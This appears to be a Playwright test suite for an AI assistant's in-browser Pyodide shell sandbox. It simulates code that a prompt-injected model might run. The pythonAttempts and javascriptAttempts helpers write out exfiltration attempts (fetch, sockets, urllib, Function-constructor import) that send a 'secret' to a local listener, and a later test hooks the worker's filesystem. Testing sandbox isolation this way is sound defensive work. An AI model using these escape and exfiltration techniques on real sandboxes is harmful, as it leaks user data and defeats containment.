import type { Page } from '@playwright/test';
import { startListener, type Listener } from '../support/listener.ts';
import { expect, expectReply, test, waitForServiceWorker } from './fixtures';
import { openShell, PYTHON_COLD_TIMEOUT, runInShell, workspaceOf } from './shell-panel';

/**
 * Code a prompt-injected model could run in `workspace_shell`, typed into the Shell panel (the same
 * sandbox). Whatever it tries, a listener on 127.0.0.1 hears nothing, with a service worker in
 * control and without one; and what one session's code leaves behind never reaches another's.
 * The boundary itself, against code that holds the worker's globals, is tested in
 * tests/integration/sandbox/isolation.browser.test.ts.
 */

let listener: Listener;
test.beforeEach(async () => {
  listener = await startListener();
});
test.afterEach(async () => {
  await listener.close();
});

/** A Python program run from a file (no quoting trouble), written through base64. */
const python = (lines: string[]) =>
  `echo ${Buffer.from(lines.join('\n')).toString('base64')} | base64 -d > /tmp/p.py && python3 /tmp/p.py`;

const tryAll = (attempts: string[]) => [
  'import json',
  'tried = {}',
  'def attempt(name, action):',
  '    try:',
  "        tried[name] = 'ALLOWED: ' + str(action())[:80]",
  '    except BaseException as e:',
  "        tried[name] = 'refused: ' + type(e).__name__",
  ...attempts,
  'print(json.dumps(tried))',
];

async function pythonAttempts(page: Page): Promise<Record<string, string>> {
  const { port } = new URL(listener.url);
  const out = await runInShell(
    page,
    python(
      tryAll([
        `L = ${JSON.stringify(listener.url)}`,
        "url = lambda path: L + '/' + path + '?secret=42'",
        'from pyodide.ffi import to_js',
        // Any JS object leads to the realm's Function constructor; the sandbox's policy refuses it.
        "attempt('Function constructor', lambda: to_js([]).constructor.constructor('return import(\"' + url('import') + '\")')())",
        "attempt('run_js', lambda: __import__('pyodide.code', fromlist=['x']).run_js('fetch(\"' + url('run-js') + '\")'))",
        "attempt('js.fetch', lambda: __import__('js').fetch(url('js-fetch')))",
        "attempt('open_url', lambda: __import__('pyodide.http', fromlist=['x']).open_url(url('open-url')))",
        "attempt('urllib', lambda: __import__('urllib.request', fromlist=['x']).urlopen(url('urllib')))",
        'import socket',
        `attempt('socket', lambda: (lambda s: (s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n'), s.recv(64))[1])(socket.create_connection(('127.0.0.1', ${port}), 2)))`,
        "attempt('webbrowser', lambda: __import__('webbrowser').open(url('webbrowser')) or 1/0)",
      ]),
    ),
  );
  expect(out).toMatch(/^Exit code: 0\n/);
  return JSON.parse(out.split('\n')[1]!);
}

async function javascriptAttempts(page: Page): Promise<string> {
  const script = [
    `const url = ${JSON.stringify(`${listener.url}/js?secret=42`)};`,
    'const seen = [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts, typeof indexedDB];',
    'try { await import(url); seen.push("imported"); } catch (e) { seen.push("import refused"); }',
    'console.log(seen.join(","));',
  ].join('\n');
  const out = await runInShell(
    page,
    `echo ${Buffer.from(script).toString('base64')} | base64 -d > /tmp/p.mjs && js /tmp/p.mjs`,
  );
  return out;
}

async function expectNothingGotOut(page: Page): Promise<void> {
  const tried = await pythonAttempts(page);
  expect(Object.keys(tried)).toHaveLength(7);
  expect(Object.entries(tried).filter(([, outcome]) => !outcome.startsWith('refused'))).toEqual([]);
  expect(tried['Function constructor']).toBe('refused: JsException'); // an EvalError from the policy
  expect(await javascriptAttempts(page)).toBe(
    'Exit code: 0\nundefined,undefined,undefined,undefined,undefined,import refused',
  );
  // Every attempt was awaited inside its command: anything let out has arrived.
  expect(listener.hits()).toEqual([]);
}

test('shell code reaches no network with the service worker in control', async ({ page }) => {
  test.setTimeout(2 * PYTHON_COLD_TIMEOUT);
  await openShell(page);
  await waitForServiceWorker(page);
  await page.reload();
  await expectReply(page, 'Here is your haiku');
  await workspaceOf(page).locator('summary', { hasText: 'Shell' }).click();
  expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  await expectNothingGotOut(page);
});

test.describe('without a service worker', () => {
  test.use({ serviceWorkers: 'block' });

  test('shell code reaches no network when no service worker ever controls the page', async ({ page }) => {
    test.setTimeout(PYTHON_COLD_TIMEOUT + 60_000);
    await openShell(page);
    expect(await page.evaluate(() => navigator.serviceWorker?.controller ?? null)).toBeNull();
    await expectNothingGotOut(page);
  });
});

test('what one session’s code leaves behind never reaches another session', async ({ page }) => {
  test.setTimeout(2 * PYTHON_COLD_TIMEOUT);
  await openShell(page);
  const first = page.url();
  const openShellHere = async () => {
    await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
    const workspace = workspaceOf(page);
    if (!(await workspace.isVisible())) await page.getByRole('button', { name: 'Files' }).click();
    await workspace.locator('summary', { hasText: 'Shell' }).click();
  };
  const look = python(['import json', "print(getattr(json, 'hearth_leak', None))"]);

  // Session A leaves state in its interpreter (a standard module stays loaded between calls).
  expect(await runInShell(page, python(['import json', "json.hearth_leak = 'from A'"]))).toBe('Exit code: 0');
  expect(await runInShell(page, look)).toBe('Exit code: 0\nfrom A');

  // Session B, in the same tab (no reload: the same runtime and sandbox host), sees none of it.
  await page.getByRole('link', { name: 'Sessions', exact: true }).click();
  await page.getByRole('button', { name: 'New session' }).click();
  await expect(page).not.toHaveURL(first);
  await openShellHere();
  expect(await runInShell(page, "echo 'secret of B' > /work/b.txt")).toBe('Exit code: 0');
  expect(await runInShell(page, look)).toBe('Exit code: 0\nNone');

  // A's sandbox kept its state meanwhile: B was kept apart, not merely started after a reset.
  await page.getByRole('link', { name: 'Sessions', exact: true }).click();
  await page.locator(`a[href="${new URL(first).hash}"]`).click();
  await openShellHere();
  expect(await runInShell(page, look)).toBe('Exit code: 0\nfrom A');

  // Code that reaches the worker's own JavaScript objects (here: it hooks the filesystem every
  // later call copies the workspace through) ends its worker: the next call starts clean.
  const hook = python([
    'import json, pyodide_js',
    'from pyodide.ffi import create_proxy',
    'seen = json.hearth_seen = []',
    'original = pyodide_js.FS.writeFile',
    'pyodide_js.FS.writeFile = create_proxy(lambda path, *rest: (seen.append(str(path)), original(path, *rest))[1])',
    "print('hooked')",
  ]);
  expect(await runInShell(page, hook)).toBe('Exit code: 0\nhooked');
  const report = python([
    'import json',
    "print(getattr(json, 'hearth_seen', None), getattr(json, 'hearth_leak', None))",
  ]);
  expect(await runInShell(page, report)).toBe('Exit code: 0\nNone None');
});
